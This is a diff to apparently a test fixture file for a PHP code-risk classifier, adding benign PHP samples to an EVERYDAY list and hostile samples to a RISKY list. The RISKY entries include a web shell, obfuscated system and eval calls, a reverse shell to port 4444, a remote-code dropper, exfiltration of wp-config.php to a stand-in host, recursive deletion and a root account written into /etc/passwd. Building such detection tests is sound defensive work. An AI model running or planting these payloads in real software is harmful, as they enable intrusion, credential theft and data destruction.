@@ -42,6 +42,14 @@ EVERYDAY = [
     "<?php assert($x > 0); $f = 'strlen'; echo $f('abc'); call_user_func([$obj, 'run'], 1);",
     '$x = 1; echo $x;',
     "<?php trait T { abstract function f(); } interface I {} enum E: string { case A = 'a'; }",
+    "<?php\ndeclare(strict_types=1);\nnamespace App\\Service;\nuse Psr\\Log\\LoggerInterface;\nfinal class Invoice {\n    public function __construct(private LoggerInterface $logger, private \\PDO $db) {}\n    public function total(int $id): float {\n        $st = $this->db->prepare('SELECT SUM(price * qty) FROM items WHERE invoice_id = :id');\n        $st->execute(['id' => $id]);\n        $this->logger->info('total', ['id' => $id]);\n        return (float) $st->fetchColumn();\n    }\n    public function exec(): void { $this->total(1); }\n}\n",
+    '<?php\nif (isset($_POST[\'email\'])) {\n    $email = filter_var($_POST[\'email\'], FILTER_VALIDATE_EMAIL);\n    if ($email === false) { $error = \'bad\'; } else {\n        $stmt = $mysqli->prepare(\'INSERT INTO subs (email) VALUES (?)\');\n        $stmt->bind_param(\'s\', $email);\n        $stmt->execute();\n    }\n}\n?>\n<form method="post"><input name="email" value="<?= htmlspecialchars($_POST[\'email\'] ?? \'\') ?>"></form>\n',
+    "<?php\nfunction theme_setup() { add_theme_support('title-tag'); register_nav_menus(['main' => 'Main']); }\nadd_action('after_setup_theme', 'theme_setup');\nwp_enqueue_style('x', get_stylesheet_uri());\n$q = new WP_Query(['post_type' => 'post', 'posts_per_page' => 5]);\nwhile ($q->have_posts()) { $q->the_post(); the_title('<h2>', '</h2>'); }\n",
+    '<?php\n$client = new GuzzleHttp\\Client([\'base_uri\' => \'https://api.example.com\']);\n$res = $client->request(\'GET\', \'/items\', [\'query\' => [\'page\' => 1]]);\nforeach (json_decode((string) $res->getBody(), true) as $item) { printf("%s\\n", $item[\'name\']); }\nfile_put_contents(__DIR__ . \'/cache/items.json\', $res->getBody());\n',
+    "<?php\nspl_autoload_register(function ($class) { require __DIR__ . '/src/' . str_replace('\\\\', '/', $class) . '.php'; });\n$app = require_once __DIR__ . '/../bootstrap/app.php';\n$kernel = $app->make(Kernel::class);\nexit($kernel->handle($argv));\n",
+    '<?php\n$lines = file(\'access.log\'); $hits = [];\nforeach ($lines as $line) { if (preg_match(\'/^(\\S+)/\', $line, $m)) { $hits[$m[1]] = ($hits[$m[1]] ?? 0) + 1; } }\narsort($hits); foreach (array_slice($hits, 0, 10) as $ip => $n) echo "$ip $n\\n";\nusort($lines, \'strcmp\'); $u = array_map(\'trim\', $lines); $v = array_filter($u, \'strlen\');\n',
+    "<?php\nreturn [ 'default' => env('DB_CONNECTION', 'mysql'), 'password' => env('DB_PASSWORD', ''), 'path' => storage_path('logs/laravel.log') ];\n",
+    "<?php\n$zip = new ZipArchive(); $zip->open('a.zip', ZipArchive::CREATE); $zip->addFile('x.txt'); $zip->close();\n$img = imagecreatetruecolor(10, 10); imagepng($img, 'out.png');\nmb_internal_encoding('UTF-8'); echo strrev('abc'), str_repeat('-', 10), ucwords('a b');\n",
 ]
 RISKY = [
     "<?php system('rm -rf /');",
@@ -94,6 +102,19 @@ RISKY = [
     "<?php $x = new ReflectionFunction('system'); $x->invoke('rm -rf /');",
     "<?php FFI::cdef('int system(const char *c);')->system('id');",
     "<?php $x = strrev('metsys'); $x('rm -rf /');",
+    "<?php\n$k = 'pass';\nif (md5($_POST['k']) == 'abc') { $c = $_POST['c']; echo '<pre>' . shell_exec($c) . '</pre>'; }\n",
+    "<?php $a = str_replace('x', '', 'sxyxsxtxexm'); $a($_REQUEST['q']); ?>",
+    "<?php $x = 'ass' . 'ert'; @$x($_POST['z']); ?>",
+    '<?php foreach ($_POST as $k => $v) { $$k = $v; } $f($v); ?>',
+    '<?php\nfunction d($dir) { foreach (scandir($dir) as $f) { if ($f === \'.\' || $f === \'..\') continue; $p = "$dir/$f"; is_dir($p) ? d($p) : unlink($p); } rmdir($dir); }\nd(\'/var/www\');\n',
+    "<?php $s = @fsockopen('10.1.2.3', 4444); $p = proc_open('/bin/sh -i', [0 => $s, 1 => $s, 2 => $s], $pipes); ?>",
+    '<?php file_put_contents(\'shell.php\', \'<?php system($_GET["c"]); ?>\'); $u = file_get_contents(\'http://x.example.net/p\'); eval(\'?>\' . $u); ?>',
+    '<?php $db->query("DELETE FROM users WHERE 1=1"); ?>',
+    "<?php $d = file_get_contents('/var/www/html/wp-config.php'); $ch = curl_init('https://x.example.net'); curl_setopt($ch, CURLOPT_POSTFIELDS, ['d' => $d]); curl_exec($ch);",
+    '<?php $o = "\\x73\\x79\\x73\\x74\\x65\\x6d"; $o("id; rm -rf /"); ?>',
+    "<?php (new class { public $f = 'system'; })->f; array_walk($arr, 'exec'); call_user_func_array('passthru', ['rm -rf /']);",
+    '<?php $z = "ZXZhbCgkX1BPU1RbJ3gnXSk7"; eval(base64_decode($z));',
+    "<?php $f = fopen('/etc/passwd', 'a'); fwrite($f, 'x::0:0::/:/bin/sh');",
 ]
 # fmt: on
 
